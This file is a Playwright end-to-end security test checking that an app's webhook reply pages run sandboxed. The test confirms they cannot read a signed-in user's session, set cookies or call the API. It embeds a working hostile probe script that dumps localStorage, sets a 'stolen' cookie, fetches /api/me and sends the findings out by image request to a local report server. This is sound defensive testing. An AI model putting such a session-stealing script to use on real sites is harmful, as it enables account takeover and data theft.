/*
 * Issue 11 item 1: a page served by a trigger URL (a webhook.respond step with HTML and script)
 * must not run in the app's origin: it cannot read a signed-in user's session (token, cookie, or
 * the API called with the session cookie) or set a cookie.
 * Also checks that the editor and Swagger UI load under their CSP with no violation.
 */
import { createServer, type Server } from 'node:http';
import type { Browser, BrowserContext, ConsoleMessage, Page } from 'playwright-core';
import { webhookReplyPage } from '../../backend/src/test-support/flow-fixtures';
import { launchChromium, startBackend, type RunningBackend } from './support/hookflow-backend';

const EMAIL = 'victim@example.com';
const PASSWORD = 'correct horse battery';

/**
 * Tries what a hostile reply page would: read stored tokens and cookies, set a cookie, call the
 * API with the browser's session; reports what it got with an image request to `reportUrl`.
 */
const probePage = (reportUrl: string) => `<!doctype html><title>probe</title><script>
  var found = [];
  try { found.push('storage=' + JSON.stringify(localStorage)); } catch (e) { found.push('storage-blocked'); }
  try { document.cookie = 'stolen=1; path=/'; found.push('cookie=' + document.cookie); } catch (e) { found.push('cookie-blocked'); }
  document.title = 'probe ran';
  var report = function () { new Image().src = '${reportUrl}?' + encodeURIComponent(found.join('&')); };
  fetch('/api/me').then(function (r) { return r.text(); }).then(function (t) { found.push('me=' + t.slice(0, 200)); }, function () { found.push('me-blocked'); }).then(report);
</script>`;

/** A local server that records probe reports and serves the probe on a plain page (control). */
async function startReportServer() {
  const reports: string[] = [];
  const server: Server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://127.0.0.1');
    if (url.pathname === '/report') {
      reports.push(decodeURIComponent(url.search.slice(1)));
      response.writeHead(204).end();
      return;
    }
    response.writeHead(200, { 'content-type': 'text/html' }).end(probePage(`${base}/report`));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  return {
    base,
    reports,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

let backend: RunningBackend | undefined;
let browser: Browser | undefined;
let reporter: Awaited<ReturnType<typeof startReportServer>> | undefined;
let context: BrowserContext;
let page: Page;
const cspViolations: string[] = [];
const watch = (message: ConsoleMessage) => {
  if (/Content Security Policy/i.test(message.text())) cspViolations.push(message.text());
};

beforeAll(async () => {
  reporter = await startReportServer();
  backend = await startBackend();
  browser = await launchChromium();
  context = await browser.newContext();
  page = await context.newPage();
  page.on('console', watch);
}, 90_000);

afterAll(async () => {
  await browser?.close();
  await backend?.stop();
  await reporter?.close();
}, 30_000);

const until = (condition: () => boolean, ms: number) =>
  new Promise<void>((resolve) => {
    const deadline = Date.now() + ms;
    const tick = () => (condition() || Date.now() > deadline ? resolve() : setTimeout(tick, 50));
    tick();
  });

test('the editor and Swagger UI load under their CSP without violations', async () => {
  const baseUrl = backend!.baseUrl;
  await page.goto(`${baseUrl}/signup`);
  await page.getByLabel('Name').fill('Victim');
  await page.getByLabel('E-mail').fill(EMAIL);
  await page.getByLabel('Password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Sign up' }).click();
  await page.waitForURL(`${baseUrl}/flows`);
  await page.getByRole('button', { name: 'New flow' }).click();
  await page.getByRole('button', { name: 'Create flow' }).click();
  await page.locator('[data-testid=flow-canvas] .react-flow__node').first().waitFor();

  const docs = await context.newPage();
  docs.on('console', watch);
  await docs.goto(`${baseUrl}/api/docs`);
  await docs.locator('.swagger-ui .opblock').first().waitFor();
  await docs.close();

  expect(cspViolations).toEqual([]);
});

test('a trigger reply page cannot read the signed-in session or set a cookie', async () => {
  const baseUrl = backend!.baseUrl;
  const sessionCookies = async () =>
    (await context.cookies(`${baseUrl}/api/me`)).filter((cookie) => cookie.name === 'hf_session');
  const [session] = await sessionCookies();
  expect(session?.value).toBeTruthy();
  // The test's own API calls: the same user, with a bearer token.
  const login = await fetch(`${baseUrl}/api/auth/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: EMAIL, password: PASSWORD, session: 'bearer' }),
  });
  const { token } = (await login.json()) as { token: string };
  expect(token).toBeTruthy();
  const api = async (method: string, path: string, body?: unknown) => {
    const response = await fetch(baseUrl + path, {
      method,
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    return { status: response.status, body: (await response.json()) as Record<string, unknown> };
  };
  const me = await api('GET', '/api/me');
  const teamId = (me.body as { teams: { id: string }[] }).teams[0]?.id;
  expect(teamId).toBeTruthy();

  // The draft names Set-Cookie (refused at publish, stripped when the test URL runs it).
  const flow = await api('POST', `/api/teams/${teamId}/flows`, {
    name: 'Hostile page',
    definition: webhookReplyPage(
      { 'Content-Type': 'text/html', 'Set-Cookie': 'hf_session=x; Path=/' },
      probePage(`${reporter!.base}/report`),
    ),
  });
  expect(flow.status).toBe(201);

  // Control: on a plain page the probe runs and reports, so silence below means it was stopped.
  // Its own context: cookies are shared across the ports of 127.0.0.1.
  const controlContext = await browser!.newContext();
  const control = await controlContext.newPage();
  await control.goto(`${reporter!.base}/page`);
  await until(() => reporter!.reports.length > 0, 5000);
  expect(await control.title()).toBe('probe ran');
  expect(reporter!.reports[0]).toContain('cookie=stolen=1');
  await controlContext.close();
  reporter!.reports.length = 0;

  const hostile = await context.newPage();
  const response = await hostile.goto(String(flow.body.testWebhookUrl));
  expect(response?.status()).toBe(200);
  expect(response?.headers()['content-security-policy']).toBe("sandbox; default-src 'none'");
  expect(await hostile.content()).toContain("fetch('/api/me')");
  await until(() => reporter!.reports.length > 0, 1500);
  expect(reporter!.reports).toEqual([]);
  expect(await hostile.title()).toBe('probe');
  await hostile.close();

  const cookies = await context.cookies(baseUrl);
  expect(cookies.map((cookie) => cookie.name)).not.toContain('stolen');
  // The reply's `Set-Cookie: hf_session=x` was stripped: the session is the one signed in.
  expect((await sessionCookies()).map((cookie) => cookie.value)).toEqual([session.value]);
  expect(cookies.filter((cookie) => cookie.value === 'x')).toEqual([]);
});
